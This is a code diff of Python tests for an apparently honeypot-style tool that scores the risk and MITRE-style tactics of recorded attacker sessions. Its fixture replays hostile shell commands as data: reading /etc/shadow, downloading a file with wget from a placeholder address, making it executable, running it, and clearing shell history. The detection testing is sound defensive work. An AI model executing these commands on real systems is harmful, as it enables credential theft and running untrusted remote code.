@@ -4,15 +4,17 @@ from __future__ import annotations
 
 from pathlib import Path
 
+import msgspec
 import pytest
 
 from mirage.analysis.analyst import Analyst
+from mirage.analysis.assessment import Assessment, assess
 from mirage.analysis.rulebook import shipped_rules
 from mirage.analysis.session import Detector
-from mirage.app.analysis import LOOK_EVERY, Reloading, Watcher, assessment_of
+from mirage.app.analysis import LOOK_EVERY, Reloading, Watcher
 from mirage.app.config import AnalysisConfig, Config
 from mirage.base.clock import SECOND, ManualClock
-from mirage.base.events import ConnectionClosed, ConnectionOpened, Envelope, Event, LineEntered
+from mirage.base.events import ArtifactCaptured, ConnectionClosed, ConnectionOpened, Envelope, Event, LineEntered
 from mirage.evidence.api import Evidence, open_evidence
 from mirage.evidence.gallery import GalleryOptions
 from mirage.evidence.sinks import Batch
@@ -145,11 +147,70 @@ def test_rules_of_the_operator_are_read_again_when_they_change(tmp_path: Path) -
     assert rules("four") == ["bbb"]
 
 
-def test_an_assessment_is_made_of_stored_events() -> None:
-    happened = envelopes([(0.0, OPENED), *typed("cat /etc/shadow"), (5.0, ConnectionClosed(reason="bye", duration=1))])
-    judged = assessment_of(Config(), happened)
-    assert (judged.is_final, judged.skill, [phase.tactic for phase in judged.phases]) == (
-        True,
-        "script kiddie",
-        ["credential-access"],
-    )
+STORY = [(0.0, OPENED), *typed("uname -a", "cat /etc/shadow", "wget http://192.0.2.5/k", "chmod +x k", "./k", "history -c")]
+BYE = (9.0, ConnectionClosed(reason="bye", duration=1))
+
+
+def stored_assessment(options: GalleryOptions) -> Assessment:
+    evidence = Evidence(options)
+    row = evidence.session(SESSION).assessment
+    evidence.close()
+    assert row is not None
+    judged = msgspec.convert(row.body, Assessment)
+    assert (row.is_final, row.risk, row.skill, row.typist, row.summary) == (
+        judged.is_final, judged.risk, judged.skill, judged.typist, judged.summary,
+    )  # fmt: skip
+    return judged
+
+
+def test_an_assessment_grows_with_its_session_and_is_final_when_it_closes(options: GalleryOptions) -> None:
+    records = written(options, [*STORY, BYE])
+    sink = sink_of(options)
+    risks = []
+    for record in records:
+        sink.write_now(Batch([record], {}))
+        judged = stored_assessment(options)
+        risks.append(judged.risk)
+        assert judged.is_final == (record is records[-1])
+    sink.close_now()
+    assert risks == sorted(risks) and risks[0] == 0 and risks[-1] > 50
+    assert [phase.tactic for phase in judged.phases][:2] == ["discovery", "credential-access"]
+
+
+@pytest.mark.parametrize("cuts", [[1], [3], [2, 5], [1, 2, 3, 4, 5, 6, 7]])
+def test_what_is_replayed_is_assessed_as_it_was_live_however_it_came(options: GalleryOptions, cuts: list[int]) -> None:
+    records = written(options, [*STORY, BYE])
+    for start, end in zip([0, *cuts], [*cuts, None], strict=True):  # each with a gallery of its own: restarts in between
+        sink = sink_of(options)
+        sink.write_now(Batch(records[start:end], {}))
+        sink.close_now()
+    evidence = Evidence(options)
+    replayed = assess(DETECTOR, evidence.events(session=SESSION))
+    evidence.close()
+    assert stored_assessment(options) == replayed
+
+
+def test_an_assessment_of_a_batch_that_failed_is_stored_with_it_once_it_comes_again(
+    options: GalleryOptions, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    records = written(options, [*STORY, BYE])
+    sink = sink_of(options)
+    with monkeypatch.context() as broken:
+        broken.setattr("mirage.evidence.sinks.database._Transaction.store", _refuse)
+        with pytest.raises(Exception, match="disk full"):
+            sink.write_now(Batch(records, {}))
+    sink.write_now(Batch(records, {}))
+    sink.close_now()
+    assert stored_assessment(options) == assess(DETECTOR, [record.envelope for record in records])
+
+
+def test_a_record_that_the_store_refuses_makes_no_other_count_twice(options: GalleryOptions) -> None:
+    refused = ArtifactCaptured(sha256="cd" * 32, size=2**63 + 1, origin="upload")
+    records = written(options, [STORY[0], *STORY[1:], (8.5, refused), BYE])
+    sink = sink_of(options)
+    sink.write_now(Batch(records, {}))
+    sink.close_now()
+    judged = stored_assessment(options)
+    assert {phase.tactic: phase.findings for phase in judged.phases} == {
+        phase.tactic: phase.findings for phase in assess(DETECTOR, [record.envelope for record in records]).phases
+    }
